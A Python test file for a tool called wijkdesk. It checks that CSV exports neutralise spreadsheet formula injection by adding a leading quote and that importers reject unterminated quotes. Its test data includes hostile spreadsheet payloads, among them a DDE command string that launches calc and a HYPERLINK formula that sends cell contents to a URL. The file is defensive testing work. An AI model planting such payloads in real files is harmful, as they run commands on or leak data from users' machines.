"""CSV files from wijkdesk are safe in a spreadsheet and read back unchanged (issue 17, point
5), and a quote that is opened and never closed refuses the file with its line (point 7).

Every CSV export (the round, Gephi's nodes and edges, Kumu's elements and connections, the
timeline) puts a quote in front of a text that a spreadsheet would run as a formula; numbers
stay numbers; wijkdesk's own importers take the quote off again."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import DEVICE_A
from tests.util import assert_one_line_error, run_cli, sha256
from wijkdesk.model import Project, WijkdeskError
from wijkdesk.model import stakeholders as sh
from wijkdesk.model import timeline as tl
from wijkdesk.model.board_export import export_round_csv
from wijkdesk.model.csv_import import import_insights, read_csv, unterminated_quote
from wijkdesk.model.csv_safe import DANGEROUS, csv_text, neutralise, unquote_cell
from wijkdesk.model.dump import dump_text

#: Texts a spreadsheet would run, or treat as the start of a formula.
HOSTILE = [
    '=HYPERLINK("http://x"&A1,"Klik")',
    "+31 6 12345678",
    "-5 meer bomen",
    "@user",
    "\tx",
    "\rx",
    "=1+1",
    "'=al een quote",  # a quote of its own: comes back with it
]
HARMLESS = ["Meer bomen", "'gewoon tussen quotes'", "3 bankjes", "", "e=mc2", " =spatie eerst"]


def _rows(path: Path, delimiter: str) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _is_neutral(cell: str) -> bool:
    """What a spreadsheet sees in a cell: a number, or a text that is no formula."""
    try:
        float(cell)
    except ValueError:
        return not cell.startswith(DANGEROUS)
    return True


# -- the rule ---------------------------------------------------------------------------


def test_a_dangerous_text_gets_one_quote_and_loses_it_again():
    for text in HOSTILE:
        safe = neutralise(text)
        assert safe.startswith("'") and not safe.startswith(DANGEROUS)
        assert unquote_cell(safe) == text
    for text in HARMLESS:
        assert neutralise(text) == text and unquote_cell(text) == text
    assert neutralise("'=x") == "''=x"  # so that it reads back with its own quote
    assert unquote_cell("'hallo") == "'hallo"  # a quote before harmless text is the user's


def test_numbers_are_written_as_numbers_texts_as_safe_texts():
    text = csv_text([["x", "y", "votes", "note"], [-12.5, -3, 0, "-12.5"]])
    assert text == "x,y,votes,note\r\n-12.5,-3,0,'-12.5\r\n"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", ";"]),
               max_size=8) | st.text(max_size=12))
def test_any_text_survives_neutralising_and_is_never_a_formula(text):
    safe = neutralise(text)
    assert not safe.startswith(DANGEROUS)
    assert unquote_cell(safe) == text
    assert next(csv.reader(io.StringIO(csv_text([[text]]), newline="")))[0] == safe


# -- every CSV export --------------------------------------------------------------------


def test_the_round_csv_neutralises_texts_keeps_numbers_and_imports_back_the_same(
        project, tmp_path):
    rnd = project.all("round")[0].id
    cluster = project.add("cluster", round_id=rnd, name="=SUM(A1:A9)")
    for i, text in enumerate(HOSTILE + HARMLESS[:3], start=1):
        note = project.add("insight", round_id=rnd, text=text, table=i % 3 + 1,
                           cluster_id=cluster if i % 2 else None)
        project.add("vote", round_id=rnd, target_id=note, count=i)
    out = export_round_csv(project, rnd, tmp_path / "ronde.csv")

    header, *rows = _rows(out, ";")
    assert header == ["tekst", "tafel", "cluster", "stemmen"]
    assert all(_is_neutral(cell) for row in rows for cell in row)
    assert [row[0] for row in rows[:len(HOSTILE)]] == ["'" + t for t in HOSTILE]
    assert {row[2] for row in rows} == {"'=SUM(A1:A9)", ""}
    assert [row[3] for row in rows] == [str(i) for i in range(1, len(rows) + 1)]  # numbers
    assert all(row[1] in {"1", "2", "3"} for row in rows)

    texts = [n.text for n in project.all("insight", round_id=rnd)]
    assert [r.text for r in read_csv(out)] == texts
    other = project.add("round", bijeenkomst_id=project.all("bijeenkomst")[0].id, prompt="B")
    import_insights(project, out, round_id=other)
    back = project.all("insight", round_id=other)
    assert [n.text for n in back] == texts
    assert {c.name for c in project.all("cluster", round_id=other)} == {"=SUM(A1:A9)"}


@pytest.fixture
def hostile_network(project):
    """Parties and relations whose every text is hostile, at negative coordinates."""
    a = project.add("stakeholder", name='=HYPERLINK("http://x"&A1,"Klik")', type="gemeente",
                    role="+31 6 12345678", notes="-5 meer bomen", segment="middenveld",
                    phases=[1, 3], x=-12.5, y=-300.0, influence=5, interest=1)
    b = project.add("stakeholder", name="@user", type="gemeente", role="\tx", notes="\rx",
                    x=40.0, y=-0.5)
    c = project.add("stakeholder", name="'=eigen quote", type="VvE", role="gewoon", x=0.0,
                    y=0.0)
    project.add("relation", source_id=a, target_id=b, type="=cmd|' /C calc'!A0", strength=3,
                note="@SUM(1)")
    project.add("relation", source_id=b, target_id=c, type="informeert", strength=1,
                note="-niet doen")
    return project


def test_gephi_csv_neutralises_every_text_and_keeps_coordinates_numbers(hostile_network,
                                                                          tmp_path):
    nodes, edges = sh.export_gephi_csv(hostile_network, tmp_path / "netwerk.csv")
    header, *rows = _rows(nodes, ",")
    assert all(_is_neutral(cell) for row in rows for cell in row)
    by_label = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
    first = by_label["'" + '=HYPERLINK("http://x"&A1,"Klik")']
    assert (first["role"], first["notes"]) == ("'+31 6 12345678", "'-5 meer bomen")
    assert (first["x"], first["y"], first["influence"], first["interest"]) == (
        "-12.5", "-300.0", "5", "1")  # numbers: no quote
    assert float(first["x"]) == -12.5
    second = by_label["'@user"]
    assert (second["role"], second["notes"], second["y"]) == ("'\tx", "'\rx", "-0.5")
    assert "''=eigen quote" in by_label
    header, *rows = _rows(edges, ",")
    assert all(_is_neutral(cell) for row in rows for cell in row)
    assert [(r[4], r[5], r[6]) for r in rows] == [("'=cmd|' /C calc'!A0", "3", "'@SUM(1)"),
                                                  ("informeert", "1", "'-niet doen")]


def test_kumu_csv_neutralises_every_text_and_imports_back_the_same(hostile_network, tmp_path):
    files = sh.export_kumu_csv(hostile_network, tmp_path / "kumu.csv")
    for path in files:
        header, *rows = _rows(path, ",")
        assert all(_is_neutral(cell) for row in rows for cell in row)
    header, *rows = _rows(files[0], ",")
    first = dict(zip(header, rows[0], strict=True))
    assert (first["Label"], first["Description"], first["notes"]) == (
        "'" + '=HYPERLINK("http://x"&A1,"Klik")', "'+31 6 12345678", "'-5 meer bomen")
    assert (first["influence"], first["interest"]) == ("5", "1")

    with Project.create(tmp_path / "leeg.wijkdesk", "Leeg", device=DEVICE_A) as fresh:
        summary = sh.import_kumu(fresh, sh.read_kumu_csv(files, project=fresh))
        assert (summary.stakeholders, summary.relations) == (3, 2)

        def texts(p: Project) -> tuple[set, set]:
            parties = {s.id: s for s in p.all("stakeholder")}
            return ({(s.name, s.role, s.notes, s.influence, s.interest, tuple(s.phases))
                     for s in parties.values()},
                    {(parties[r.source_id].name, parties[r.target_id].name, r.type,
                      r.strength, r.note) for r in p.all("relation")})

        assert texts(fresh) == texts(hostile_network)


def test_the_timeline_csv_neutralises_every_text_and_keeps_numbers(project, tmp_path):
    owner = project.add("stakeholder", name="@gemeente")
    first = tl.add_item(project, title='=HYPERLINK("http://x"&A1,"Klik")', track="doe",
                        start="2027-03-01", end="2027-03-31", owner_id=owner,
                        note="+31 6 12345678", phase=3)
    second = tl.add_item(project, title="-5 meer bomen", start="2027-04-01", note="\tx")
    tl.add_dependency(project, first, second)
    out = tl.export_timeline_csv(project, tmp_path / "tijdlijn.csv")

    header, *rows = _rows(out, ";")
    assert all(_is_neutral(cell) for row in rows for cell in row)
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    one, two = by_id[first], by_id[second]
    assert (one["title"], one["owner"], one["note"]) == (
        "'" + '=HYPERLINK("http://x"&A1,"Klik")', "'@gemeente", "'+31 6 12345678")
    assert (one["start"], one["end"], one["phase"], one["postponed"]) == (
        "2027-03-01", "2027-03-31", "3", "0")
    assert (two["title"], two["note"]) == ("'-5 meer bomen", "'\tx")
    assert two["depends_on"] == "'" + '=HYPERLINK("http://x"&A1,"Klik")'


# -- an unterminated quote ---------------------------------------------------------------


def test_an_unterminated_quote_is_found_on_its_line():
    assert unterminated_quote('tekst\r\nGoed\r\n"begin zonder eind\r\nx\r\n', ";") == 3
    assert unterminated_quote('a;"b\nc";"d\n\ne', ";") == 2  # after a closed multi-line one
    assert unterminated_quote('a;"b""\n', ";") == 1  # "" inside is a quote, not the end
    for fine in ('a;"b"\n', 'a;"b""c"\n', 'ab"c;d\n', '"a"b;c\n', '"";x', "", "\n\n"):
        assert unterminated_quote(fine, ";") is None, fine


def test_an_insights_csv_with_an_unterminated_quote_is_refused_with_its_line(tmp_path):
    path = tmp_path / "inzichten.csv"
    path.write_text('tekst;tafel\nMeer bomen;1\n"begin zonder eind;2\nNog een;3\n',
                    encoding="utf-8")
    with pytest.raises(WijkdeskError) as info:
        read_csv(path)
    assert info.value.code == "csv_unterminated_quote"
    assert info.value.params["line"] == 3
    assert str(info.value) == (f'Line 3 of {path}: a quote (") is opened but never closed. '
                               "Nothing was imported.")
    # a quote that is closed, or one inside a text, still reads as before
    path.write_text('tekst;tafel\n"Meer ""bomen""";1\nEen "halve" quote;2\n', encoding="utf-8")
    assert [r.text for r in read_csv(path)] == ['Meer "bomen"', 'Een "halve" quote']


def test_a_kumu_csv_with_an_unterminated_quote_is_refused_with_its_line(tmp_path):
    path = tmp_path / "elements.csv"
    path.write_text('Label,Type\nGemeente,gemeente\nBuurt,bewonersgroep\n"Straat,vve\n',
                    encoding="utf-8")
    with pytest.raises(WijkdeskError) as info:
        sh.read_kumu_csv(path)
    assert (info.value.code, info.value.params["line"]) == ("csv_unterminated_quote", 4)


def test_the_command_line_refuses_an_unterminated_quote_and_imports_nothing(tmp_path):
    file = tmp_path / "wijk.wijkdesk"
    with Project.create(file, "Testwijk", device=DEVICE_A) as p:
        evening = p.add("bijeenkomst", title="Eerste avond", date="2026-09-17", tables=3)
        p.add("round", bijeenkomst_id=evening, prompt="Wat?")
    with Project.open(file) as p:
        before_dump = dump_text(p)
    before = sha256(file)
    bad = tmp_path / "inzichten.csv"
    bad.write_text('tekst;tafel\nMeer bomen;1\n"begin zonder eind\nx;2\n', encoding="utf-8")

    line = assert_one_line_error(run_cli("import-insights", file, bad, "--lang", "en"))
    assert line == (f'wijkdesk: Line 3 of {bad}: a quote (") is opened but never closed. '
                    "Nothing was imported.")
    assert sha256(file) == before
    with Project.open(file) as p:
        assert dump_text(p) == before_dump and p.count("insight") == 0
